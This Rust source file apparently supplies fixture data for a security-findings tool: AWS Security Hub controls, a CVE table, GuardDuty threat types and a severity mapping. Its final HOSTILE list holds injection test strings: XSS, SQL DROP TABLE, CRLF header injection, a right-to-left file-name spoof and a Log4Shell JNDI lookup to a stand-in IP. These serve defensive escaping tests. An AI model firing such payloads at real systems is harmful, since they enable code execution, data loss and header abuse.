//! The words findings are made of.

/// A Security Hub control.
#[derive(Debug, Clone, Copy)]
pub(super) struct Control {
    /// As AWS numbers it, and as the foundational standard does.
    pub(super) id: &'static str,
    pub(super) title: &'static str,
    pub(super) about: &'static str,
    pub(super) severity: &'static str,
    /// Its rule in the CIS benchmark 1.2.0, or in PCI DSS 3.2.1, where it has one.
    pub(super) elsewhere: Option<Elsewhere>,
    pub(super) config_rule: &'static str,
}

/// The same check under the name another standard gives it.
#[derive(Debug, Clone, Copy)]
pub(super) enum Elsewhere {
    Cis(&'static str),
    Pci(&'static str),
}

const fn control(
    id: &'static str,
    severity: &'static str,
    title: &'static str,
    about: &'static str,
    config_rule: &'static str,
    elsewhere: Option<Elsewhere>,
) -> Control {
    Control {
        id,
        title,
        about,
        severity,
        elsewhere,
        config_rule,
    }
}

use Elsewhere::{Cis, Pci};

/// Controls about security groups.
pub(super) const NETWORK: &[Control] = &[
    control(
        "EC2.13",
        "HIGH",
        "Security groups should not allow ingress from 0.0.0.0/0 or ::/0 to port 22",
        "This control checks whether an Amazon EC2 security group allows ingress from 0.0.0.0/0 or ::/0 to port 22. The control fails if the security group allows ingress from 0.0.0.0/0 or ::/0 to port 22.",
        "restricted-ssh",
        Some(Cis("4.1")),
    ),
    control(
        "EC2.19",
        "CRITICAL",
        "Security groups should not allow unrestricted access to ports with high risk",
        "This control checks whether unrestricted incoming traffic for an Amazon EC2 security group is accessible to the specified ports that are considered to be high risk. The control fails if any of the rules in a security group allow ingress traffic from '0.0.0.0/0' or '::/0' to those ports.",
        "vpc-sg-restricted-common-ports",
        None,
    ),
    control(
        "EC2.14",
        "HIGH",
        "Security groups should not allow ingress from 0.0.0.0/0 or ::/0 to port 3389",
        "This control checks whether an Amazon EC2 security group allows ingress from 0.0.0.0/0 or ::/0 to port 3389. The control fails if the security group allows ingress from 0.0.0.0/0 or ::/0 to port 3389.",
        "restricted-common-ports",
        Some(Cis("4.2")),
    ),
    control(
        "EC2.18",
        "HIGH",
        "Security groups should only allow unrestricted incoming traffic for authorized ports",
        "This control checks whether an Amazon EC2 security group permits unrestricted incoming traffic from unauthorized ports. The control fails if a security group permits unrestricted traffic on a port other than 80 or 443.",
        "vpc-sg-open-only-to-authorized-ports",
        None,
    ),
];

/// Controls about instances.
pub(super) const INSTANCE: &[Control] = &[
    control(
        "EC2.8",
        "HIGH",
        "EC2 instances should use Instance Metadata Service Version 2 (IMDSv2)",
        "This control checks whether your EC2 instance metadata version is configured with Instance Metadata Service Version 2 (IMDSv2). The control passes if HttpTokens is set to required for IMDSv2.",
        "ec2-imdsv2-check",
        None,
    ),
    control(
        "EC2.9",
        "HIGH",
        "EC2 instances should not have a public IPv4 address",
        "This control checks whether EC2 instances have a public IP address. The control fails if the publicIp field is present in the EC2 instance configuration item.",
        "ec2-instance-no-public-ip",
        None,
    ),
    control(
        "EC2.17",
        "LOW",
        "EC2 instances should not use multiple ENIs",
        "This control checks whether an EC2 instance uses multiple Elastic Network Interfaces (ENIs) or Elastic Fabric Adapters (EFAs). This control passes if a single network adapter is used.",
        "ec2-instance-multiple-eni-check",
        None,
    ),
    control(
        "SSM.1",
        "MEDIUM",
        "EC2 instances should be managed by AWS Systems Manager",
        "This control checks whether the stopped and running EC2 instances in your account are managed by AWS Systems Manager.",
        "ec2-instance-managed-by-systems-manager",
        Some(Pci("SSM.3")),
    ),
    control(
        "SSM.2",
        "HIGH",
        "EC2 instances managed by Systems Manager should have a patch compliance status of COMPLIANT after a patch installation",
        "This control checks whether the compliance status of Systems Manager patch compliance is COMPLIANT or NON_COMPLIANT after the patch installation on the instance.",
        "ec2-managedinstance-patch-compliance-status-check",
        Some(Pci("SSM.1")),
    ),
];

/// Controls about buckets.
pub(super) const BUCKET: &[Control] = &[
    control(
        "S3.2",
        "CRITICAL",
        "S3 general purpose buckets should block public read access",
        "This control checks whether an Amazon S3 general purpose bucket permits public read access. It evaluates the block public access settings, the bucket policy, and the bucket access control list (ACL).",
        "s3-bucket-public-read-prohibited",
        Some(Pci("S3.2")),
    ),
    control(
        "S3.3",
        "CRITICAL",
        "S3 general purpose buckets should block public write access",
        "This control checks whether an Amazon S3 general purpose bucket permits public write access. It evaluates the block public access settings, the bucket policy, and the bucket access control list (ACL).",
        "s3-bucket-public-write-prohibited",
        Some(Pci("S3.1")),
    ),
    control(
        "S3.5",
        "MEDIUM",
        "S3 general purpose buckets should require requests to use SSL",
        "This control checks whether an Amazon S3 general purpose bucket has a policy that requires requests to use SSL. The control fails if the bucket policy doesn't require requests to use SSL.",
        "s3-bucket-ssl-requests-only",
        Some(Pci("S3.5")),
    ),
    control(
        "S3.8",
        "HIGH",
        "S3 general purpose buckets should block public access",
        "This control checks whether an Amazon S3 general purpose bucket blocks public access at the bucket level. The control fails if any of the settings is set to false.",
        "s3-bucket-level-public-access-prohibited",
        None,
    ),
    control(
        "S3.9",
        "MEDIUM",
        "S3 general purpose buckets should have server access logging enabled",
        "This control checks whether server access logging is enabled for an Amazon S3 general purpose bucket. The control fails if server access logging isn't enabled.",
        "s3-bucket-logging-enabled",
        None,
    ),
    control(
        "S3.13",
        "LOW",
        "S3 general purpose buckets should have Lifecycle configurations",
        "This control checks whether an Amazon S3 general purpose bucket has a Lifecycle configuration. The control fails if the bucket doesn't have a Lifecycle configuration.",
        "s3-lifecycle-policy-check",
        None,
    ),
];

/// Controls about identities; IAM is global, so every Region reports them.
pub(super) const IDENTITY: &[Control] = &[
    control(
        "IAM.3",
        "MEDIUM",
        "IAM users' access keys should be rotated every 90 days or less",
        "This control checks whether the active access keys are rotated within 90 days.",
        "access-keys-rotated",
        Some(Cis("1.4")),
    ),
    control(
        "IAM.5",
        "MEDIUM",
        "MFA should be enabled for all IAM users that have a console password",
        "This control checks whether AWS multi-factor authentication (MFA) is enabled for all IAM users that use a console password.",
        "mfa-enabled-for-iam-console-access",
        Some(Cis("1.2")),
    ),
    control(
        "IAM.2",
        "LOW",
        "IAM users should not have IAM policies attached",
        "This control checks whether your IAM users have policies attached. The control fails if your IAM users have policies attached. Instead, IAM users must inherit permissions from IAM groups or assume a role.",
        "iam-user-no-policies-check",
        Some(Cis("1.16")),
    ),
    control(
        "IAM.6",
        "CRITICAL",
        "Hardware MFA should be enabled for the root user",
        "This control checks whether your AWS account is enabled to use a hardware multi-factor authentication (MFA) device to sign in with root user credentials.",
        "root-account-hardware-mfa-enabled",
        Some(Cis("1.14")),
    ),
    control(
        "IAM.4",
        "CRITICAL",
        "IAM root user access key should not exist",
        "This control checks whether the root user access key is present.",
        "iam-root-access-key-check",
        Some(Cis("1.12")),
    ),
    control(
        "IAM.8",
        "MEDIUM",
        "Unused IAM user credentials should be removed",
        "This control checks whether your IAM users have passwords or active access keys that have not been used for 90 days.",
        "iam-user-unused-credentials-check",
        Some(Cis("1.3")),
    ),
];

/// Controls about databases and functions.
pub(super) const OTHER: &[Control] = &[
    control(
        "RDS.2",
        "CRITICAL",
        "RDS DB Instances should prohibit public access, as determined by the PubliclyAccessible configuration",
        "This control checks whether Amazon RDS instances are publicly accessible by evaluating the PubliclyAccessible field in the instance configuration item.",
        "rds-instance-public-access-check",
        Some(Pci("RDS.2")),
    ),
    control(
        "RDS.3",
        "MEDIUM",
        "RDS DB instances should have encryption at-rest enabled",
        "This control checks whether storage encryption is enabled for your Amazon RDS DB instances.",
        "rds-storage-encrypted",
        None,
    ),
    control(
        "Lambda.1",
        "CRITICAL",
        "Lambda function policies should prohibit public access",
        "This control checks whether the Lambda function resource-based policy prohibits public access outside of your account.",
        "lambda-function-public-access-prohibited",
        Some(Pci("Lambda.1")),
    ),
    control(
        "Lambda.2",
        "MEDIUM",
        "Lambda functions should use supported runtimes",
        "This control checks whether AWS Lambda function runtime settings match the expected values set for the supported runtimes in each language.",
        "lambda-function-settings-check",
        None,
    ),
];

/// A vulnerability: id, package, version, fixed in, score, label, exploit known, description.
#[derive(Debug, Clone, Copy)]
pub(super) struct Cve {
    pub(super) id: &'static str,
    pub(super) package: &'static str,
    pub(super) version: &'static str,
    pub(super) fixed_in: &'static str,
    pub(super) score: f64,
    pub(super) severity: &'static str,
    pub(super) exploit: bool,
    pub(super) about: &'static str,
}

pub(super) const CVES: &[Cve] = &[
    Cve {
        id: "CVE-2021-44228",
        package: "org.apache.logging.log4j:log4j-core",
        version: "2.14.1",
        fixed_in: "2.15.0",
        score: 10.0,
        severity: "CRITICAL",
        exploit: true,
        about: "Apache Log4j2 2.0-beta9 through 2.15.0 JNDI features used in configuration, log messages, and parameters do not protect against attacker controlled LDAP and other JNDI related endpoints. An attacker who can control log messages or log message parameters can execute arbitrary code loaded from LDAP servers when message lookup substitution is enabled.",
    },
    Cve {
        id: "CVE-2024-3094",
        package: "xz-utils",
        version: "5.6.0",
        fixed_in: "5.6.1+really5.4.5",
        score: 10.0,
        severity: "CRITICAL",
        exploit: true,
        about: "Malicious code was discovered in the upstream tarballs of xz, starting with version 5.6.0. Through a series of complex obfuscations, the liblzma build process extracts a prebuilt object file from a disguised test file existing in the source code, which is then used to modify specific functions in the liblzma code.",
    },
    Cve {
        id: "CVE-2024-6387",
        package: "openssh-server",
        version: "1:8.9p1",
        fixed_in: "1:8.9p1-3ubuntu0.10",
        score: 8.1,
        severity: "HIGH",
        exploit: true,
        about: "A security regression (CVE-2006-5051) was discovered in OpenSSH's server (sshd). There is a race condition which can lead sshd to handle some signals in an unsafe manner. An unauthenticated, remote attacker may be able to trigger it by failing to authenticate within a set time period.",
    },
    Cve {
        id: "CVE-2023-38545",
        package: "libcurl4",
        version: "7.81.0",
        fixed_in: "7.81.0-1ubuntu1.14",
        score: 9.8,
        severity: "CRITICAL",
        exploit: false,
        about: "This flaw makes curl overflow a heap based buffer in the SOCKS5 proxy handshake. When curl is asked to pass along the host name to the SOCKS5 proxy to allow that to resolve the address instead of it getting done by curl itself, the maximum length that host name can be is 255 bytes.",
    },
    Cve {
        id: "CVE-2023-44487",
        package: "nghttp2",
        version: "1.43.0",
        fixed_in: "1.43.0-1ubuntu0.1",
        score: 7.5,
        severity: "HIGH",
        exploit: true,
        about: "The HTTP/2 protocol allows a denial of service (server resource consumption) because request cancellation can reset many streams quickly, as exploited in the wild in August through October 2023.",
    },
    Cve {
        id: "CVE-2022-0778",
        package: "openssl",
        version: "1.1.1f",
        fixed_in: "1.1.1f-1ubuntu2.12",
        score: 7.5,
        severity: "HIGH",
        exploit: false,
        about: "The BN_mod_sqrt() function, which computes a modular square root, contains a bug that can cause it to loop forever for non-prime moduli. Internally this function is used when parsing certificates that contain elliptic curve public keys in compressed form.",
    },
    Cve {
        id: "CVE-2023-4911",
        package: "glibc",
        version: "2.35",
        fixed_in: "2.35-0ubuntu3.4",
        score: 7.8,
        severity: "HIGH",
        exploit: true,
        about: "A buffer overflow was discovered in the GNU C Library's dynamic loader ld.so while processing the GLIBC_TUNABLES environment variable. This issue could allow a local attacker to use maliciously crafted GLIBC_TUNABLES environment variables when launching binaries with SUID permission to execute code with elevated privileges.",
    },
    Cve {
        id: "CVE-2019-10247",
        package: "org.eclipse.jetty:jetty-server",
        version: "8.1.14",
        fixed_in: "9.4.17.v20190418",
        score: 5.3,
        severity: "MEDIUM",
        exploit: false,
        about: "In Eclipse Jetty version 7.x, 8.x, 9.2.27 and older, the server running on any OS and Jetty version combination will reveal the configured fully qualified directory base resource location on the output of the 404 error for not finding a Context that matches the requested path.",
    },
    Cve {
        id: "CVE-2022-40897",
        package: "setuptools",
        version: "59.6.0",
        fixed_in: "65.5.1",
        score: 5.9,
        severity: "MEDIUM",
        exploit: false,
        about: "Python Packaging Authority (PyPA) setuptools before 65.5.1 allows remote attackers to cause a denial of service via HTML in a crafted package or custom PackageIndex page. There is a Regular Expression Denial of Service (ReDoS) in package_index.py.",
    },
    Cve {
        id: "CVE-2020-8908",
        package: "com.google.guava:guava",
        version: "28.1-jre",
        fixed_in: "32.0.0-android",
        score: 3.3,
        severity: "LOW",
        exploit: false,
        about: "A temp directory creation vulnerability exists in all versions of Guava, allowing an attacker with access to the machine to potentially access data in a temporary directory created by the Guava API com.google.common.io.Files.createTempDir().",
    },
];

/// A threat: GuardDuty type, Security Hub type, severity, its number, title, description.
pub(super) const THREATS: &[(&str, &str, &str, u8, &str, &str)] = &[
    (
        "UnauthorizedAccess:EC2/SSHBruteForce",
        "TTPs/Initial Access/UnauthorizedAccess:EC2-SSHBruteForce",
        "LOW",
        2,
        "198.51.100.77 is performing SSH brute force attacks against the instance.",
        "198.51.100.77 is performing SSH brute force attacks against the instance. Brute force attacks are used to gain unauthorized access to your instance by guessing the SSH password.",
    ),
    (
        "CryptoCurrency:EC2/BitcoinTool.B!DNS",
        "TTPs/Command and Control/CryptoCurrency:EC2-BitcoinTool.B!DNS",
        "HIGH",
        8,
        "The EC2 instance is querying a domain name that is associated with Bitcoin-related activity.",
        "The EC2 instance is querying a domain name that is associated with Bitcoin-related activity.",
    ),
    (
        "Backdoor:EC2/C&CActivity.B!DNS",
        "TTPs/Command and Control/Backdoor:EC2-C&CActivity.B!DNS",
        "HIGH",
        8,
        "The EC2 instance is querying a domain name associated with a known Command & Control server.",
        "The EC2 instance is querying a domain name associated with a known Command & Control server. This usually means that the instance is compromised.",
    ),
    (
        "Recon:EC2/PortProbeUnprotectedPort",
        "TTPs/Discovery/Recon:EC2-PortProbeUnprotectedPort",
        "LOW",
        2,
        "An unprotected port on the EC2 instance is being probed.",
        "EC2 instance has an unprotected port which is being probed by a known malicious host.",
    ),
    (
        "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
        "Effects/Data Exfiltration/UnauthorizedAccess:IAMUser-InstanceCredentialExfiltration.OutsideAWS",
        "HIGH",
        8,
        "Credentials for the EC2 instance role were used from an external IP address.",
        "Credentials created exclusively for an EC2 instance using its instance role have been used from an external IP address.",
    ),
    (
        "Trojan:EC2/DNSDataExfiltration",
        "TTPs/Command and Control/Trojan:EC2-DNSDataExfiltration",
        "CRITICAL",
        9,
        "The EC2 instance is attempting to query domain names that resemble exfiltrated data.",
        "The EC2 instance is attempting to query domain names that resemble exfiltrated data.",
    ),
];

/// Text that must never be taken for markup, query language or header lines.
pub(super) const HOSTILE: &[&str] = &[
    "<script>alert('hubwatch')</script><img src=x onerror=alert(1)>",
    "\" OR project = SEC ORDER BY created -- \\\"",
    "line one\r\nBcc: everybody@example.com\r\n\r\nbody",
    "\u{202e}txt.exe\u{202c} right to left",
    "🚨🔥 ünïcödé 漢字 zero\u{200b}width",
    "{code}h1. not a heading{code} [~admin] {{mono}} !image.png!",
    "'; DROP TABLE findings; --",
    "${jndi:ldap://198.51.100.1/a} {{7*7}} %00 %n",
];

/// The number that goes with a label (AWS's table for `Severity.Normalized`).
pub(super) fn normalized(label: &str) -> u8 {
    match label {
        "CRITICAL" => 90,
        "HIGH" => 70,
        "MEDIUM" => 40,
        "LOW" => 1,
        _ => 0,
    }
}
